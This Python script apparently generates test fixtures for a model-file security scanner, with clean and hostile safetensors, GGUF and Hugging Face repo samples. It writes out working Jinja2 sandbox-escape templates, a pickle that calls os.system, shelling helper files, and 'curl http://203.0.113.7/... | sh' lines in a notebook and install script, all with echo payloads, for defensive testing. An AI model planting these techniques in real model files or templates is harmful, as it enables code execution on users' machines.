#!/usr/bin/python3
"""Samples for safetensors, GGUF, chat templates and Hugging Face repo files.

Clean artifacts come from the reference libraries: safetensors (``safetensors.torch.save_file`` on a
real torch module), gguf-py (``gguf.GGUFWriter``, llama.cpp's writer, with ``gguf.quants`` for Q8_0)
and transformers (``PretrainedConfig`` / ``PreTrainedTokenizerFast.save_pretrained``). Hostile
variants are written to the specs by the small writers below, and cross-checked here:

- every file our safetensors writer makes is loaded back with the reference reader, and each
  hostile header the reference must reject is confirmed rejected;
- every GGUF our writer makes that should be readable is read back with ``gguf.GGUFReader``;
- every template parses with real Jinja2; benign ones render in Jinja2's sandbox, hostile ones hit
  its SecurityError (they target the sandbox).

Debian provides torch and numpy. safetensors, gguf, transformers, tokenizers and jinja2 are
wheels: install them into a directory (``python3 -m pip install --target DIR safetensors gguf
transformers tokenizers jinja2``, without numpy so Debian's is used) and set MODELGATE_PYLIB=DIR.
Malicious samples carry harmless payloads (``echo``).
"""

import base64
import json
import os
import pickle
import shutil
import struct
import sys
from pathlib import Path

for extra in filter(None, os.environ.get("MODELGATE_PYLIB", "").split(os.pathsep)):
    sys.path.insert(0, extra)

import numpy as np  # noqa: E402
import torch  # noqa: E402

try:
    import gguf  # noqa: E402
    import jinja2  # noqa: E402
    import jinja2.sandbox  # noqa: E402
    import safetensors  # noqa: E402
    import safetensors.torch  # noqa: E402
    import tokenizers  # noqa: E402
    import transformers  # noqa: E402
except ImportError as error:  # pragma: no cover
    sys.stderr.write(
        f"formats_a.py: {error}. Install safetensors, gguf, transformers, tokenizers and jinja2 "
        "into a directory and set MODELGATE_PYLIB (see the docstring). Samples left unchanged.\n"
    )
    sys.exit(0)

ROOT = Path(__file__).resolve().parent.parent
ST = ROOT / "safetensors"
GG = ROOT / "gguf"
HF = ROOT / "hf-repo"

torch.manual_seed(0)
np.random.seed(0)


class EchoPayload:
    """A pickle that would run `echo` when unpickled (harmless marker payload)."""

    def __reduce__(self):
        return (os.system, ("echo modelgate-sample",))


def evil_pickle(protocol=4):
    return pickle.dumps(EchoPayload(), protocol=protocol)


# An ELF header stub (x86-64 executable, no code): what a dropper appends to an innocent file.
ELF_STUB = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1) + b"\x00" * 44


# ---------------------------------------------------------------- templates

BENIGN_TEMPLATE = (
    "{%- set ns = namespace(system=none) -%}"
    "{%- for message in messages -%}"
    "{%- if message['role'] == 'system' -%}{%- set ns.system = message['content'] -%}{%- endif -%}"
    "{%- endfor -%}"
    "{%- if ns.system is not none -%}{{ '<|im_start|>system\\n' + ns.system + '<|im_end|>\\n' }}{%- endif -%}"
    "{%- for message in messages if message['role'] != 'system' -%}"
    "{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] | trim + '<|im_end|>\\n' }}"
    "{%- endfor -%}"
    "{%- if tools -%}{{ '<|im_start|>tools\\n' + (tools | map(attribute='name') | join(', ')) + '<|im_end|>\\n' }}{%- endif -%}"
    "{%- if add_generation_prompt -%}{{ '<|im_start|>assistant\\n' }}{%- endif -%}"
)

# CVE-2024-34359 class: walks from a tuple to os via __subclasses__ (payload: echo).
CVE_TEMPLATE = (
    "{% for c in ().__class__.__base__.__subclasses__() %}"
    "{% if c.__name__ == 'catch_warnings' %}"
    "{{ c()._module.__builtins__['__import__']('os').popen('echo modelgate-sample').read() }}"
    "{% endif %}{% endfor %}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

# Names assembled from pieces, reached through the attr() filter (no dunder appears literally).
OBFUSCATED_TEMPLATE = (
    "{% set u = '_' ~ '_' %}"
    "{% set g = (u ~ 'glo' ~ 'bals' ~ u) %}"
    "{% set o = ['o', 's'] | join %}"
    "{{ (cycler | attr(u ~ 'init' ~ u) | attr(g))[o] | attr('popen')('echo modelgate-sample') }}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

ESCAPED_TEMPLATE = (
    "{{ lipsum['\\x5f\\x5fglobals\\x5f\\x5f']['\\x6fs'].popen('echo modelgate-sample').read() }}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

FORMAT_TEMPLATE = (
    "{% set n = '%c%cclass%c%c' | format(95, 95, 95, 95) %}"
    "{{ messages | map(attribute=n) | list }}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

GADGET_TEMPLATE = (
    "{{ self._TemplateReference__context }}"
    "{% for message in messages %}{{ message['content'] }}{% endfor %}"
)

INCLUDE_TEMPLATE = "{% include 'partials/system.jinja' %}{% for message in messages %}{{ message['content'] }}{% endfor %}"

HOSTILE_TEMPLATES = [CVE_TEMPLATE, OBFUSCATED_TEMPLATE, ESCAPED_TEMPLATE, FORMAT_TEMPLATE, GADGET_TEMPLATE]


def check_templates():
    env = jinja2.Environment()
    sandbox = jinja2.sandbox.ImmutableSandboxedEnvironment()
    chat = {"messages": [{"role": "system", "content": "be brief"}, {"role": "user", "content": "hi"}],
            "tools": [{"name": "search"}], "add_generation_prompt": True}
    for t in [BENIGN_TEMPLATE, INCLUDE_TEMPLATE, *HOSTILE_TEMPLATES]:
        env.parse(t)  # real Jinja2 accepts every template
    out = sandbox.from_string(BENIGN_TEMPLATE).render(**chat)
    assert out.startswith("<|im_start|>system\nbe brief<|im_end|>\n"), out
    for t in HOSTILE_TEMPLATES:
        # The sandbox refuses the unsafe attributes (raising, or yielding undefined values): the
        # payload never runs there. These templates target unsandboxed renderers.
        try:
            out = sandbox.from_string(t).render(**chat)
        except (jinja2.exceptions.SecurityError, jinja2.exceptions.UndefinedError, TypeError):
            continue
        assert "modelgate-sample" not in out


# ---------------------------------------------------------------- safetensors

ST_BITS = {"BOOL": 8, "U8": 8, "I8": 8, "I16": 16, "U16": 16, "F16": 16, "BF16": 16, "I32": 32,
           "U32": 32, "F32": 32, "F64": 64, "I64": 64, "U64": 64}


def st_file(entries, metadata=None, *, header_text=None, pad=b" ", data=None, extra=b""):
    """A safetensors file from (name, dtype, shape, raw bytes) entries, laid out as the spec says.

    header_text overrides the JSON (hostile headers); data overrides the data section.
    """
    offsets = {}
    blob = bytearray()
    for name, dtype, shape, raw in entries:
        offsets[name] = (len(blob), len(blob) + len(raw))
        blob += raw
    if header_text is None:
        head = {}
        if metadata is not None:
            head["__metadata__"] = metadata
        for name, dtype, shape, raw in entries:
            head[name] = {"dtype": dtype, "shape": list(shape), "data_offsets": list(offsets[name])}
        header_text = json.dumps(head, separators=(",", ":"))
    header = header_text.encode("utf-8") if isinstance(header_text, str) else header_text
    if pad:
        header += pad * ((8 - len(header) % 8) % 8)
    body = bytes(blob) if data is None else data
    return struct.pack("<Q", len(header)) + header + body + extra


def tensor_entry(name, t):
    """(name, dtype, shape, raw) from a torch tensor."""
    dtype = {torch.float32: "F32", torch.float16: "F16", torch.bfloat16: "BF16", torch.int64: "I64",
             torch.int32: "I32", torch.uint8: "U8", torch.bool: "BOOL"}[t.dtype]
    raw = t.contiguous().view(torch.uint8).numpy().tobytes() if t.numel() else b""
    return (name, dtype, tuple(t.shape), raw)


def st_accepts(blob):
    safetensors.deserialize(blob)


def st_rejects(blob):
    try:
        safetensors.deserialize(blob)
    except Exception:  # noqa: BLE001 - any rejection
        return
    raise AssertionError("reference accepted a header it must reject")


class Tiny(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.embed = torch.nn.Embedding(32, 16)
        self.norm = torch.nn.LayerNorm(16)
        self.proj = torch.nn.Linear(16, 32)
        self.register_buffer("position_ids", torch.arange(32))


def tiny_state():
    m = Tiny()
    sd = {k: v.detach().clone() for k, v in m.state_dict().items()}
    sd["proj.weight"] = sd["proj.weight"].to(torch.bfloat16)
    sd["embed.weight"] = sd["embed.weight"].to(torch.float16)
    return sd


def make_safetensors():
    if ST.exists():
        shutil.rmtree(ST)
    ST.mkdir(parents=True)
    expected = {}

    def put(name, blob, verdict, rules, *, accepted):
        (ST / name).write_bytes(blob)
        (st_accepts if accepted else st_rejects)(blob)
        expected[f"safetensors/{name}"] = {"verdict": verdict, "rules": rules}

    sd = tiny_state()
    safetensors.torch.save_file(sd, ST / "clean-model.safetensors", metadata={"format": "pt"})
    loaded = safetensors.torch.load_file(ST / "clean-model.safetensors")
    assert all(torch.equal(loaded[k], v) for k, v in sd.items())
    expected["safetensors/clean-model.safetensors"] = {"verdict": "clean", "rules": []}
    base = [tensor_entry(k, v) for k, v in sorted(sd.items())]
    ours = st_file(base, {"format": "pt"})
    reread = safetensors.deserialize(ours)
    assert {k for k, _ in reread} == set(sd), "our writer disagrees with the reference"

    # Zero-size and scalar tensors, header padded with spaces: valid per the reference.
    edge = [("empty", "F32", (0, 4), b""), ("scalar", "I64", (), struct.pack("<q", 7)),
            ("mask", "BOOL", (3,), b"\x01\x00\x01")]
    put("clean-edge-cases.safetensors", st_file(edge, {"format": "pt", "note": "zero-size and scalar tensors"}),
        "clean", [], accepted=True)

    one = [("w", "F32", (2,), struct.pack("<2f", 1.0, 2.0))]
    put("header-too-large.safetensors", struct.pack("<Q", 100_000_001) + b'{"w":{}}', "invalid",
        ["safetensors/header-too-large"], accepted=False)
    put("header-out-of-bounds.safetensors", struct.pack("<Q", 4096) + b'{"w":{"dtype":"F32"}}', "invalid",
        ["safetensors/header-out-of-bounds"], accepted=False)
    put("invalid-json.safetensors", st_file(one, header_text="{'w': {'dtype': 'F32'}}", data=b"\0" * 8), "invalid",
        ["safetensors/invalid-header"], accepted=False)
    nul = '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    put("nul-padded-header.safetensors", st_file(one, header_text=nul, pad=b"\0"), "invalid",
        ["safetensors/invalid-header"], accepted=False)
    put("metadata-not-string.safetensors",
        st_file(one, header_text='{"__metadata__":{"epoch":3},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'),
        "invalid", ["safetensors/invalid-header"], accepted=False)
    # The reference keeps the last duplicate: loaders see I32, a first-wins parser sees F32.
    dup = ('{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
           '"w":{"dtype":"I32","shape":[2],"data_offsets":[0,8]}}')
    put("duplicate-key.safetensors", st_file(one, header_text=dup), "malicious", ["safetensors/duplicate-key"],
        accepted=True)
    put("unknown-dtype.safetensors",
        st_file(one, header_text='{"w":{"dtype":"Q4_K","shape":[2],"data_offsets":[0,8]}}'), "invalid",
        ["safetensors/unknown-dtype"], accepted=False)
    put("size-mismatch.safetensors",
        st_file(one, header_text='{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,8]}}'), "invalid",
        ["safetensors/tensor-size-mismatch"], accepted=False)
    put("size-overflow.safetensors",
        st_file([], header_text='{"w":{"dtype":"F32","shape":[4294967296,4294967296,4294967296],"data_offsets":[0,0]}}'),
        "invalid", ["safetensors/tensor-size-mismatch"], accepted=False)
    # A gap between two tensors that holds bytes no tensor claims.
    gap_data = struct.pack("<2f", 1.0, 2.0) + b"HIDDEN-PAYLOAD--" + struct.pack("<2f", 3.0, 4.0)
    gap = ('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
           '"b":{"dtype":"F32","shape":[2],"data_offsets":[24,32]}}')
    put("gap.safetensors", st_file([], header_text=gap, data=gap_data), "invalid",
        ["safetensors/offsets-not-contiguous"], accepted=False)
    overlap = ('{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},'
               '"b":{"dtype":"F32","shape":[2],"data_offsets":[4,12]}}')
    put("overlap.safetensors", st_file([], header_text=overlap, data=b"\0" * 12), "invalid",
        ["safetensors/offsets-not-contiguous"], accepted=False)
    # A valid file with a payload appended: the reference rejects it, lenient loaders do not. The
    # trailing bytes are scanned as a member (an executable here, so the verdict does not depend on
    # which other analyzers are installed; the unit tests check a trailing pickle reaches the member scan).
    put("trailing-executable.safetensors", st_file(base, {"format": "pt"}, extra=ELF_STUB), "malicious",
        ["safetensors/data-length-mismatch", "format/executable"], accepted=False)
    put("truncated-data.safetensors",
        st_file([], header_text='{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', data=b"\0" * 8), "invalid",
        ["safetensors/data-length-mismatch"], accepted=False)
    put("metadata-code.safetensors",
        st_file(one, {"format": "pt", "post_load": "import os; os.system('echo modelgate-sample')"}), "malicious",
        ["safetensors/metadata-code"], accepted=True)
    b64 = base64.b64encode(evil_pickle()).decode()
    put("metadata-pickle.safetensors", st_file(one, {"format": "pt", "config": b64}), "malicious",
        ["safetensors/metadata-pickle"], accepted=True)
    put("metadata-url.safetensors",
        st_file(one, {"format": "pt", "weights_source": "http://203.0.113.7/extra/weights.bin"}), "suspicious",
        ["safetensors/metadata-url"], accepted=True)
    put("suspicious-name.safetensors",
        st_file([("../../etc/cron.d/job", "F32", (2,), b"\0" * 8), ("<script>alert(1)</script>", "F32", (2,), b"\0" * 8)],
                {"format": "pt"}), "suspicious", ["safetensors/suspicious-tensor-name"], accepted=True)
    extra = '{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8],"comment":"x"}}'
    put("nonstandard-field.safetensors", st_file(one, header_text=extra), "suspicious",
        ["safetensors/nonstandard-field"], accepted=True)
    write_expected(ST, expected)


# ---------------------------------------------------------------- GGUF

GT = {"u8": 0, "i8": 1, "u16": 2, "i16": 3, "u32": 4, "i32": 5, "f32": 6, "bool": 7, "str": 8, "arr": 9,
      "u64": 10, "i64": 11, "f64": 12}
SCALAR_FMT = {0: "B", 1: "b", 2: "H", 3: "h", 4: "I", 5: "i", 6: "f", 7: "?", 10: "Q", 11: "q", 12: "d"}


class GGUFSpecWriter:
    """Writes GGUF byte by byte from the spec (versions 1-3, either byte order), with hooks to break it."""

    def __init__(self, version=3, little=True, alignment=32):
        self.version, self.e, self.alignment = version, "<" if little else ">", alignment
        self.kvs, self.tensors = [], []

    def n(self, v):  # length/count field: u32 in v1, u64 after
        return struct.pack(self.e + ("I" if self.version == 1 else "Q"), v)

    def s(self, text):
        raw = text.encode("utf-8") if isinstance(text, str) else text
        return self.n(len(raw)) + raw

    def value(self, t, v):
        if t == GT["str"]:
            return self.s(v)
        if t == GT["arr"]:
            et, items = v
            return struct.pack(self.e + "I", et) + self.n(len(items)) + b"".join(self.value(et, x) for x in items)
        return struct.pack(self.e + SCALAR_FMT[t], v)

    def kv(self, key, t, v):
        self.kvs.append(self.s(key) + struct.pack(self.e + "I", t) + self.value(t, v))
        return self

    def raw_kv(self, blob):
        self.kvs.append(blob)
        return self

    def tensor(self, name, dims, ggml_type, data, offset=None, write_data=True):
        self.tensors.append([name, dims, ggml_type, data, offset, write_data])
        return self

    def build(self, tensor_count=None, kv_count=None, trailing=b""):
        out = bytearray(b"GGUF" + struct.pack(self.e + "I", self.version))
        out += self.n(len(self.tensors) if tensor_count is None else tensor_count)
        out += self.n(len(self.kvs) if kv_count is None else kv_count)
        for blob in self.kvs:
            out += blob
        cursor, data = 0, bytearray()
        for t in self.tensors:
            name, dims, ggml_type, blob, offset, write_data = t
            off = cursor if offset is None else offset
            out += self.s(name) + struct.pack(self.e + "I", len(dims))
            out += b"".join(struct.pack(self.e + ("I" if self.version == 1 else "Q"), d) for d in dims)
            out += struct.pack(self.e + "I", ggml_type) + struct.pack(self.e + "Q", off)
            if offset is None and write_data:
                data += blob + b"\0" * ((-len(blob)) % self.alignment)
                cursor = len(data)
        if self.tensors:
            out += b"\0" * ((-len(out)) % self.alignment)
        return bytes(out + data + trailing)


def base_spec(version=3, little=True, template=BENIGN_TEMPLATE):
    w = GGUFSpecWriter(version, little)
    w.kv("general.architecture", GT["str"], "llama").kv("general.name", GT["str"], "modelgate-sample")
    w.kv("llama.context_length", GT["u32"], 128).kv("llama.embedding_length", GT["u32"], 8)
    w.kv("llama.block_count", GT["u32"], 1)
    w.kv("tokenizer.ggml.model", GT["str"], "gpt2")
    w.kv("tokenizer.ggml.tokens", GT["arr"], (GT["str"], [f"t{i}" for i in range(16)]))
    w.kv("tokenizer.ggml.token_type", GT["arr"], (GT["i32"], [1] * 16))
    if template is not None:
        w.kv("tokenizer.chat_template", GT["str"], template)
    w.tensor("token_embd.weight", [8, 16], 0, np.ones((16, 8), dtype=("<f4" if little else ">f4")).tobytes())
    w.tensor("output_norm.weight", [8], 0, np.ones(8, dtype=("<f4" if little else ">f4")).tobytes())
    return w


def gguf_reads(path):
    r = gguf.GGUFReader(path)
    return r


def make_gguf():
    if GG.exists():
        shutil.rmtree(GG)
    GG.mkdir(parents=True)
    expected = {}

    def put(name, blob, verdict, rules, *, readable=True):
        p = GG / name
        p.write_bytes(blob)
        if readable:
            gguf_reads(p)  # gguf-py parses what should parse
        expected[f"gguf/{name}"] = {"verdict": verdict, "rules": rules}

    # Real files from llama.cpp's writer.
    def real(name, endian, template):
        w = gguf.GGUFWriter(GG / name, "llama", endianess=endian)
        w.add_name("modelgate-sample")
        w.add_context_length(128)
        w.add_embedding_length(32)
        w.add_block_count(1)
        w.add_head_count(4)
        w.add_feed_forward_length(64)
        w.add_file_type(gguf.LlamaFileType.MOSTLY_Q8_0)
        w.add_tokenizer_model("gpt2")
        w.add_token_list([f"tok{i}" for i in range(64)])
        w.add_token_types([1] * 64)
        w.add_bos_token_id(1)
        w.add_eos_token_id(2)
        w.add_chat_template(template)
        # GGUFWriter byte-swaps tensors itself for big-endian output.
        f16 = np.random.randn(64, 32).astype(np.float16)
        q8 = gguf.quants.quantize(np.random.randn(32, 32).astype(np.float32), gguf.GGMLQuantizationType.Q8_0)
        norm = np.ones(32, dtype=np.float32)
        w.add_tensor("token_embd.weight", f16, raw_dtype=gguf.GGMLQuantizationType.F16)
        w.add_tensor("blk.0.attn_q.weight", q8, raw_dtype=gguf.GGMLQuantizationType.Q8_0)
        w.add_tensor("output_norm.weight", norm, raw_dtype=gguf.GGMLQuantizationType.F32)
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        r = gguf.GGUFReader(GG / name)
        assert [t.name for t in r.tensors] == ["token_embd.weight", "blk.0.attn_q.weight", "output_norm.weight"]

    real("clean-llama.gguf", gguf.GGUFEndian.LITTLE, BENIGN_TEMPLATE)
    expected["gguf/clean-llama.gguf"] = {"verdict": "clean", "rules": []}
    real("clean-big-endian.gguf", gguf.GGUFEndian.BIG, BENIGN_TEMPLATE)
    expected["gguf/clean-big-endian.gguf"] = {"verdict": "clean", "rules": []}
    real("malicious-template.gguf", gguf.GGUFEndian.LITTLE, CVE_TEMPLATE)
    expected["gguf/malicious-template.gguf"] = {"verdict": "malicious", "rules": ["template/dunder-access"]}
    # Named templates (tokenizer.chat_template.<name>) are analysed too.
    w = gguf.GGUFWriter(GG / "named-template.gguf", "llama")
    w.add_chat_template([{"name": "default", "template": BENIGN_TEMPLATE}, {"name": "tool_use", "template": ESCAPED_TEMPLATE}])
    w.add_tensor("output_norm.weight", np.ones(32, dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    gguf_reads(GG / "named-template.gguf")
    expected["gguf/named-template.gguf"] = {
        "verdict": "malicious",
        "rules": ["template/dunder-access", "template/obfuscated-name", "template/gadget-reference"],
    }

    put("clean-v2.gguf", base_spec(version=2).build(), "clean", [])
    put("obfuscated-template.gguf", base_spec(template=OBFUSCATED_TEMPLATE).build(), "malicious",
        ["template/obfuscated-name", "template/dunder-access"])
    put("format-template.gguf", base_spec(template=FORMAT_TEMPLATE).build(), "malicious",
        ["template/obfuscated-name", "template/dunder-access"])
    bad = base_spec().build()
    put("unsupported-version.gguf", bad[:4] + struct.pack("<I", 7) + bad[8:], "invalid",
        ["gguf/unsupported-version"], readable=False)
    put("count-out-of-bounds.gguf", base_spec().build(tensor_count=1 << 40), "invalid",
        ["gguf/count-out-of-bounds"], readable=False)
    w = base_spec()
    w.raw_kv(w.s("general.description") + struct.pack("<I", GT["str"]) + struct.pack("<Q", 1 << 40) + b"x")
    put("string-too-long.gguf", w.build(), "invalid", ["gguf/malformed"], readable=False)
    w = base_spec()
    w.raw_kv(w.s("general.tags") + struct.pack("<I", GT["arr"]) + struct.pack("<I", GT["arr"]) + w.n(0))
    put("nested-array.gguf", w.build(), "invalid", ["gguf/malformed"], readable=False)
    # Duplicate chat template: a first-wins reader sees the benign one, last-wins the hostile one.
    put("duplicate-key.gguf", base_spec().kv("tokenizer.chat_template", GT["str"], CVE_TEMPLATE).build(), "malicious",
        ["gguf/duplicate-key", "template/dunder-access"], readable=False)
    put("bad-alignment.gguf", base_spec().kv("general.alignment", GT["u32"], 33).build(), "invalid",
        ["gguf/bad-alignment"], readable=False)
    w = base_spec()
    w.tensor("blk.0.too_many_dims", [1, 1, 1, 1, 1], 0, b"\0" * 4)
    put("invalid-tensor-info.gguf", w.build(), "invalid", ["gguf/invalid-tensor-info"], readable=False)
    w = base_spec()
    w.tensor("blk.0.removed_type", [32], 4, b"\0" * 20)
    put("removed-ggml-type.gguf", w.build(), "invalid", ["gguf/invalid-tensor-info"], readable=False)
    w = base_spec()
    w.tensors[1][4] = 0  # second tensor aliases the first
    put("tensor-overlap.gguf", w.build(), "invalid", ["gguf/tensor-layout"], readable=False)
    w = base_spec()
    w.tensor("blk.0.ffn_up.weight", [8, 8], 0, b"", write_data=False)  # declared, never written
    put("tensor-out-of-bounds.gguf", w.build(), "invalid", ["gguf/tensor-out-of-bounds"], readable=False)
    put("trailing-executable.gguf", base_spec().build(trailing=ELF_STUB), "malicious",
        ["gguf/trailing-data", "format/executable"])
    w = base_spec()
    w.kv("tokenizer.ggml.scores", GT["arr"], (GT["u8"], [0] * 16))
    put("key-type-mismatch.gguf", w.build(), "suspicious", ["gguf/key-type-mismatch"])
    write_expected(GG, expected)


# ---------------------------------------------------------------- Hugging Face repos

MODELING = '''"""Custom modeling code shipped with the sample repo (never imported by modelgate)."""
from .configuration_tiny import TinyConfig
from .helpers_tiny import prepare_cache


class TinyModel:
    config_class = TinyConfig

    def __init__(self, config):
        self.config = config
        prepare_cache()
'''

CONFIGURATION = '''"""Configuration class referenced by auto_map."""
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny-remote"

    def __init__(self, hidden_size=16, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''

HELPERS = '''"""Imported by modeling_tiny.py: runs when the model is loaded with trust_remote_code=True."""
import os
import subprocess


def prepare_cache():
    os.system("echo modelgate-sample")
    subprocess.run(["echo", "modelgate-sample"], check=False)
'''

NOTEBOOK = {
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Quick start"]},
        {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [],
         "source": ["!curl -fsSL http://203.0.113.7/setup.sh | sh\n", "import torch\n"]},
    ],
    "metadata": {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}},
    "nbformat": 4,
    "nbformat_minor": 5,
}

INSTALL_SH = """#!/bin/sh
# Convenience installer shipped in the sample repo.
set -e
curl -fsSL http://203.0.113.7/bootstrap.sh | bash
"""


def tiny_tokenizer(template):
    vocab = {"<unk>": 0, "<s>": 1, "</s>": 2, **{f"w{i}": i + 3 for i in range(29)}}
    tok = tokenizers.Tokenizer(tokenizers.models.WordLevel(vocab, unk_token="<unk>"))
    tok.pre_tokenizer = tokenizers.pre_tokenizers.Whitespace()
    fast = transformers.PreTrainedTokenizerFast(tokenizer_object=tok, bos_token="<s>", eos_token="</s>",
                                                unk_token="<unk>")
    fast.chat_template = template
    return fast


def llama_config(**extra):
    cfg = transformers.LlamaConfig(vocab_size=32, hidden_size=16, intermediate_size=32, num_hidden_layers=1,
                                   num_attention_heads=2, num_key_value_heads=2, max_position_embeddings=64)
    cfg.architectures = ["LlamaForCausalLM"]
    for k, v in extra.items():
        setattr(cfg, k, v)
    return cfg


def save_weights(d, *, bin_too=False):
    sd = tiny_state()
    safetensors.torch.save_file(sd, d / "model.safetensors", metadata={"format": "pt"})
    if bin_too:
        torch.save(sd, d / "pytorch_model.bin")


def make_hf():
    if HF.exists():
        shutil.rmtree(HF)
    HF.mkdir(parents=True)
    expected = {}

    # A clean repo: real config, tokenizer (template saved as chat_template.jinja), generation config.
    d = HF / "clean-model"
    d.mkdir()
    llama_config().save_pretrained(d)
    transformers.GenerationConfig(bos_token_id=1, eos_token_id=2, max_new_tokens=16).save_pretrained(d)
    tiny_tokenizer(BENIGN_TEMPLATE).save_pretrained(d)
    save_weights(d)
    expected["hf-repo/clean-model"] = {"verdict": "clean", "rules": []}

    # Remote code: auto_map -> configuration_tiny.py, modeling_tiny.py -> helpers_tiny.py (risky);
    # a hostile chat template in tokenizer_config.json; a pickle beside the safetensors weights.
    d = HF / "remote-code-model"
    d.mkdir()
    cfg = llama_config(auto_map={"AutoConfig": "configuration_tiny.TinyConfig",
                                 "AutoModel": "modeling_tiny.TinyModel"})
    cfg.save_pretrained(d)
    tok = tiny_tokenizer(CVE_TEMPLATE)
    tok.save_pretrained(d, save_jinja_files=False)
    (d / "configuration_tiny.py").write_text(CONFIGURATION)
    (d / "modeling_tiny.py").write_text(MODELING)
    (d / "helpers_tiny.py").write_text(HELPERS)
    save_weights(d, bin_too=True)
    # The directory as one unit: remote code resolved across files, the pickle beside safetensors.
    expected["hf-repo/remote-code-model"] = {"verdict": "malicious", "rules": [
        "repo/remote-code", "repo/python-file", "repo/risky-code", "template/dunder-access",
        "repo/pickle-beside-safetensors"]}
    # Single files: what each reveals on its own.
    expected["hf-repo/remote-code-model/config.json"] = {
        "verdict": "suspicious", "rules": ["repo/remote-code", "repo/remote-code-missing"]}
    expected["hf-repo/remote-code-model/modeling_tiny.py"] = {"verdict": "suspicious", "rules": ["repo/python-file"]}
    expected["hf-repo/remote-code-model/helpers_tiny.py"] = {
        "verdict": "malicious", "rules": ["repo/python-file", "repo/risky-code"]}
    expected["hf-repo/remote-code-model/tokenizer_config.json"] = {
        "verdict": "malicious", "rules": ["template/dunder-access", "template/code-execution-name"]}
    expected["hf-repo/remote-code-model/model.safetensors"] = {"verdict": "clean", "rules": []}

    # Code from elsewhere: another repo's module, and a module that is not here.
    d = HF / "external-code"
    d.mkdir()
    llama_config(auto_map={"AutoModel": "someone-else/other-repo--modeling_other.OtherModel",
                           "AutoConfig": "configuration_missing.MissingConfig"}).save_pretrained(d)
    expected["hf-repo/external-code"] = {
        "verdict": "malicious", "rules": ["repo/remote-code-external", "repo/remote-code-missing"]}

    # Templates outside tokenizer_config.json, scripts and notebooks, and a hostile sharded index.
    d = HF / "loose-files"
    d.mkdir()
    (d / "chat_template.json").write_text(json.dumps({"chat_template": OBFUSCATED_TEMPLATE}, indent=2) + "\n")
    (d / "chat_template.jinja").write_text(FORMAT_TEMPLATE + "\n")
    (d / "tool_template.jinja").write_text(INCLUDE_TEMPLATE + "\n")
    (d / "quickstart.ipynb").write_text(json.dumps(NOTEBOOK, indent=1) + "\n")
    (d / "install.sh").write_text(INSTALL_SH)
    os.chmod(d / "install.sh", 0o755)
    index = {"metadata": {"total_size": 1024},
             "weight_map": {"embed.weight": "model-00001-of-00002.safetensors",
                            "proj.weight": "../../shared/model-00002-of-00002.safetensors"}}
    (d / "model.safetensors.index.json").write_text(json.dumps(index, indent=2) + "\n")
    dup = '{\n  "model_type": "llama",\n  "auto_map": {"AutoModel": "modeling_x.X"},\n  "auto_map": {}\n}\n'
    (d / "config.json").write_text(dup)
    expected["hf-repo/loose-files/chat_template.json"] = {
        "verdict": "malicious", "rules": ["template/obfuscated-name", "template/dunder-access"]}
    expected["hf-repo/loose-files/chat_template.jinja"] = {
        "verdict": "malicious", "rules": ["template/obfuscated-name", "template/dunder-access"]}
    expected["hf-repo/loose-files/tool_template.jinja"] = {
        "verdict": "suspicious", "rules": ["template/external-template"]}
    expected["hf-repo/loose-files/quickstart.ipynb"] = {
        "verdict": "malicious", "rules": ["repo/notebook", "repo/risky-code"]}
    expected["hf-repo/loose-files/install.sh"] = {"verdict": "malicious", "rules": ["repo/shell-script", "repo/risky-code"]}
    expected["hf-repo/loose-files/model.safetensors.index.json"] = {
        "verdict": "malicious", "rules": ["repo/index-path-escape", "repo/index-missing-shard"]}
    expected["hf-repo/loose-files/config.json"] = {"verdict": "suspicious", "rules": ["repo/json-duplicate-key"]}
    expected["hf-repo/loose-files"] = {"verdict": "malicious", "rules": [
        "template/obfuscated-name", "template/external-template", "repo/notebook", "repo/shell-script",
        "repo/risky-code", "repo/index-path-escape", "repo/index-missing-shard", "repo/json-duplicate-key"]}
    write_expected(HF, expected)


def write_expected(folder, expected):
    (folder / "expected.json").write_text(json.dumps(dict(sorted(expected.items())), indent=2) + "\n")


if __name__ == "__main__":
    check_templates()
    make_safetensors()
    make_gguf()
    make_hf()
    total = sum(p.stat().st_size for d in (ST, GG, HF) for p in d.rglob("*") if p.is_file())
    print(f"formats_a: wrote samples ({total} bytes)")
